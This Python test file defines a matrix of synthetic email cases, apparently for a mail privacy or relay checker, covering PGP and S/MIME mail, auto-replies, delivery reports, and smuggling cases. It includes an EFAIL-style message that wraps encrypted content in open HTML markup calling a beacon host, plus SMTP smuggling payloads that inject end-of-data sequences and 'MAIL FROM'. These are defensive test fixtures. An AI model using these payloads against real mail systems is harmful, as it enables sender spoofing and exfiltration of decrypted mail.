"""Rows of the matrix: OpenPGP and S/MIME, mail that machines write, and bytes that attack the next hop."""

from __future__ import annotations

from collections.abc import Callable

from tests.leaks import papers
from tests.leaks.case import ABSORBED, BOTH, HELD, RELAYED, Case, at
from tests.leaks.letters import attached, entity, html, letter, parts, text
from tests.leaks.who import Who

TEXT = "text/plain; charset=utf-8"


def _armoured(kind: str, who: Who, comment: bool = True) -> str:
    head = f"Version: {who.client} 2.0\nComment: {who.token}\n" if comment else ""
    return f"-----BEGIN PGP {kind}-----\n{head}\n{who.key}AAAA\n=abcd\n-----END PGP {kind}-----\n"


def _clear_signed(who: Who, after: str = "") -> str:
    return f"-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA512\nCharset: {who.host}\n\n{who.says}\n- -- dashes\n{_armoured('SIGNATURE', who)}{after}"


def _signed(who: Who, kind: str, data: bytes, name: str) -> bytes:
    signature = entity(f"{kind}; name={name}", data, f"Content-Description: {who.firm}", encoding="base64")
    return parts(
        text(who, f"I am {who.name}."),
        signature,
        kind="signed",
        more=f'; protocol="{kind}"; micalg=pgp-sha512',
    )


def _p7s(who: Who) -> bytes:
    return b"\x30\x82\x01\x0a\x06\x09*\x86H\x86\xf7\r\x01\x07\x02" + who.address.encode() + who.token.encode()


def _row(row: str, what: str, encoding: str, program: str, build: Callable[[Who], bytes], plants: str, off: str, peers: str,
         ends: str = RELAYED) -> Case:  # fmt: skip
    return Case(row, what, encoding, program, lambda w: letter(w, build(w)), plants, off, peers, ends=ends)


SEALED = at("OpenPGP and S/MIME", (
    _row("pgp-mime-signed", "detached signature names its key", "multipart/signed", "Thunderbird",
         lambda w: _signed(w, "application/pgp-signature", _armoured("SIGNATURE", w).encode(), "signature.asc"), "token|client|key", "signatures files", "signature"),
    _row("pgp-mime-text", "name in a signed text", "multipart/signed", "Proton",
         lambda w: _signed(w, "application/pgp-signature", b"x", "signature.asc"), "name", "words", "body"),
    _row("smime-signed", "certificate with the author's address", "multipart/signed, p7s", "Outlook, Apple Mail",
         lambda w: _signed(w, "application/pkcs7-signature", _p7s(w), "smime.p7s"), "address|token", "signatures files", "smime"),
    _row("smime-file", "certificate as a file", "p7s", "Exchange", lambda w: parts(text(w), entity("application/x-pkcs7-signature; name=smime.p7s", _p7s(w),
         "Content-Disposition: attachment; filename=smime.p7s", encoding="base64")), "address|token", "signatures files", "smime"),
    _row("smime-opaque", "signed and wrapped", "application/pkcs7-mime", "Outlook desktop",
         lambda w: entity("application/pkcs7-mime; smime-type=signed-data; name=smime.p7m", _p7s(w)), "address|token", "sealed quotes words", "smime", HELD),
    _row("clear-signed", "armour with program, comment, key", "inline OpenPGP", "GnuPG", lambda w: entity(TEXT, _clear_signed(w)), "token|client|key|host", "armour quotes words",
         "signature"),
    _row("key-inline", "public key in the text", "inline OpenPGP", "GnuPG", lambda w: text(w, _armoured("PUBLIC KEY BLOCK", w)), "token|client|key", "armour quotes words", "key"),
    _row("key-private", "private key in the text", "inline OpenPGP", "GnuPG", lambda w: text(w, _armoured("PRIVATE KEY BLOCK", w), "after"), "token|client|key",
         "armour quotes words", "key"),
    _row("signature-alone", "signature without its text", "inline OpenPGP", "list gateway", lambda w: text(w, _armoured("SIGNATURE", w), "after"),
         "token|client|key", "armour quotes words", "signature"),
    _row("clear-signed-twice", "two clear-signed texts", "inline OpenPGP", "GnuPG", lambda w: entity(TEXT, _clear_signed(w) + _clear_signed(w)),
         "token|client|key|host", "armour quotes words", "signature"),
    _row("key-part", "public key", "application/pgp-keys", "Thunderbird", lambda w: parts(text(w), entity(f"application/pgp-keys; name=OpenPGP_0x{w.key}.asc",
         _armoured("PUBLIC KEY BLOCK", w))), "token|client|key", "files", "key"),
    _row("key-octets", "public key under a wrong label", "octet-stream", "Enigmail",
         lambda w: parts(text(w), entity("application/octet-stream", _armoured("PUBLIC KEY BLOCK", w), f"Content-Disposition: attachment; filename=0x{w.key}.asc")),
         "token|client|key", "files", "key"),
    _row("signature-file", "signature of a file", "octet-stream", "GnuPG",
         lambda w: parts(text(w), entity("application/octet-stream", _armoured("SIGNATURE", w), "Content-Disposition: attachment; filename=a.pdf.asc")),
         "token|client|key", "files", "signature"),
    _row("pgp-mime", "encrypted, whoever can read it", "multipart/encrypted", "Thunderbird",
         lambda w: parts(entity("application/pgp-encrypted", "Version: 1"), entity("application/octet-stream; name=encrypted.asc", _armoured("MESSAGE", w)),
                         kind="encrypted"), "token|client|key", "sealed quotes words", "sealed", HELD),
    _row("pgp-inline", "encrypted text", "inline OpenPGP", "K-9 of old", lambda w: entity(TEXT, _armoured("MESSAGE", w)), "token|client|key", "sealed quotes words", "sealed", HELD),
    _row("pgp-between", "encrypted block with words around it", "inline OpenPGP", "Mailvelope",
         lambda w: text(w, "before", _armoured("MESSAGE", w), f"after {w.third}"), "token|client|key|third", "sealed quotes words", "sealed", HELD),
    _row("pgp-html", "encrypted block in a page", "inline OpenPGP in HTML", "Mailvelope",
         lambda w: html(w, f"<pre>{_armoured('MESSAGE', w)}</pre>"), "token|client|key", "sealed quotes words", "sealed", HELD),
    _row("efail", "encrypted part between open markup", "multipart/mixed", "attacker",
         lambda w: parts(entity("text/html", f'<img src="https://{w.beacon}/'), parts(entity("application/pgp-encrypted", "Version: 1"),
                         entity("application/octet-stream", _armoured("MESSAGE", w)), kind="encrypted", boundary="=_e"), entity("text/html", '">')),
         "beacon|token|key", "sealed quotes words", "sealed", HELD),
    _row("smime-encrypted", "encrypted to somebody", "application/pkcs7-mime", "Apple Mail",
         lambda w: entity("application/pkcs7-mime; smime-type=enveloped-data", _p7s(w)), "address|token", "sealed quotes words", "smime", HELD),
    _row("trailing", "words behind a clear-signed text", "inline OpenPGP", "list gateway", lambda w: entity(TEXT, _clear_signed(w, f"-- \nlist of {w.firm}\n")),
         "token|client|key|firm", "armour quotes words", "signature"),
    Case("pgp-file", "encrypted file", "*.pgp", "GnuPG", lambda w: attached(w, "application/pgp-encrypted", _armoured("MESSAGE", w).encode(), name="a.pgp"),
         "token|client|key", "files", "file"),
    Case("literal-name", "file name inside a packet", "OpenPGP literal data", "GnuPG",
         lambda w: attached(w, "application/octet-stream", b"\xcb\x40b" + bytes([len(w.token)]) + w.token.encode() + bytes(4) + b"a", name="a.gpg"), "token", "files",
         "file"),
))  # fmt: skip


def _machine(row: str, what: str, program: str, build: Callable[[Who], bytes], plants: str, peers: str = "vacation", sender: str = "address",
             encoding: str = "plain", directions: tuple = BOTH) -> Case:  # fmt: skip
    return Case(
        row,
        what,
        encoding,
        program,
        build,
        plants,
        "stages files",
        peers,
        ABSORBED,
        directions,
        is_answer=True,
        sender=sender,
    )


def _away(who: Who, *fields: str, subject: str = "Re: A question", words: str = "I am away. Ask") -> bytes:
    return letter(who, text(who, f"{words} {who.deputy}, {who.firm}."), *fields, subject=subject)


def _away_in(language: str, subject: str, program: str) -> Case:
    return _machine(f"subject-{language}", "out-of-office note known by its subject", program, lambda w: _away(w, subject=subject), "deputy|firm",
                    encoding=f"subject, {language}")  # fmt: skip


def _report(who: Who, action: str, kind: str = "delivery-status", free: str = "") -> bytes:
    status = entity(f"message/{kind}", f"Reporting-MTA: dns; {who.host}\r\n\r\nFinal-Recipient: rfc822; {who.second}\r\nOriginal-Recipient: rfc822; {who.third}\r\n"
                    f"Action: {action}\r\nStatus: 5.1.1\r\nDiagnostic-Code: smtp; 550 {who.token} at {who.ip}\r\n")  # fmt: skip
    original = entity("message/rfc822", f"Received: from {who.beacon}\r\nFrom: {who.name}\r\n\r\nold words")
    body = parts(entity(TEXT, free or f"Your mail to {who.second} was {action} by {who.host} ({who.token})."), status, original, kind="report",
                 more=f"; report-type={kind}")  # fmt: skip
    return letter(
        who,
        body,
        subject="Undelivered Mail Returned to Sender",
        sender=f"Mail Delivery System <MAILER-DAEMON@{who.domain}>",
    )


MACHINES = at("Mail that machines write", (
    _machine("auto-submitted", "out-of-office note with name and deputy", "Exchange", lambda w: _away(w, "Auto-Submitted: auto-replied", f"X-Of: {w.host}"), "deputy|firm",
             encoding="RFC 3834"),
    _machine("vacation", "vacation note from nobody", "Sieve", lambda w: _away(w, "Precedence: bulk"), "deputy|firm", sender="nobody", encoding="null reverse-path"),
    _machine("x-autoreply", "note with an old field", "cPanel, Communigate", lambda w: _away(w, "X-Autoreply: yes"), "deputy|firm", encoding="X-Autoreply"),
    _away_in("en", "Automatic reply: A question", "Outlook"),
    _away_in("de", "Automatische Antwort: Eine Frage", "Outlook"),
    _away_in("fr", "=?utf-8?q?R=C3=A9ponse_automatique_:_question?=", "Outlook"),
    _away_in("es", "=?utf-8?q?Respuesta_autom=C3=A1tica=3A_pregunta?=", "Outlook"),
    _away_in("ja", "=?utf-8?b?6Ieq5YuV5b+c562UOiBh?=", "Outlook"),
    _machine("receipt", "notice that a message was read", "Outlook", lambda w: _report(w, "displayed", "disposition-notification"), "host|token",
             peers="report", encoding="RFC 8098"),
    _machine("failed", "delivery report, failed", "Postfix", lambda w: _report(w, "failed"), "host|token", peers="report", sender="nobody", encoding="RFC 3464"),
    _machine("delayed", "delivery report, delayed", "Exim", lambda w: _report(w, "delayed"), "host|token", peers="report", sender="nobody", encoding="RFC 3464"),
    _machine("over-quota", "delivery report in words only", "Exchange of old",
             lambda w: letter(w, text(w, f"Mailbox {w.firm} is full at {w.host}."), subject="Undeliverable: A question", sender=f"postmaster@{w.domain}"), "firm|host",
             peers="report", sender="nobody", encoding="free text"),
    _machine("calendar-reply", "answer to an invitation", "Google Calendar",
             lambda w: letter(w, parts(text(w), entity("text/calendar; method=REPLY", papers.calendar(w, "REPLY"), encoding="base64"))), "deputy|third|host",
             peers="file", encoding="iCalendar, METHOD:REPLY"),
    _machine("complaint", "complaint of a provider", "Yahoo, Microsoft", lambda w: _report(w, "x", "feedback-report"), "host|token", peers="report",
             encoding="RFC 5965"),
))  # fmt: skip

_ENDS = {
    "lf-lf": "\n.\n", "crlf-lf": "\r\n.\n", "lf-crlf": "\n.\r\n", "cr-cr": "\r.\r", "cr-crlf": "\r.\r\n", "crlf-cr": "\r\n.\r",
    "crcrlf": "\r\n.\r\r\n", "nul-before": "\r\n\0.\r\n", "nul-behind": "\r\n.\0\r\n", "dot": "\r\n.\r\n",
}  # fmt: skip


def _smuggled(name: str, end: str, encoding: str) -> Case:
    def build(who: Who) -> bytes:
        words = f"{who.says}\r\na{end}MAIL FROM:<>\r\n".encode()
        return letter(who, entity(TEXT, words, encoding=encoding))

    what = "end of data in the text, " + end.encode("unicode_escape").decode()
    return Case(f"{name}-{encoding}", what, encoding, "attacker", build, "", "encoding", "unknown")


SMUGGLING = at("Smuggled ends of data", (
    *(_smuggled(name, end, "base64") for name, end in _ENDS.items()),
    *(_smuggled(name, end, "8bit") for name, end in _ENDS.items() if name != "dot"),
    Case("file", "end of data in a text file", "base64", "attacker",
         lambda w: attached(w, TEXT, b"a\r\n.\r\nMAIL FROM:<>\r\n", name="a.txt"), "", "encoding", "unknown"),
))  # fmt: skip

ROWS = (*SEALED, *MACHINES, *SMUGGLING)
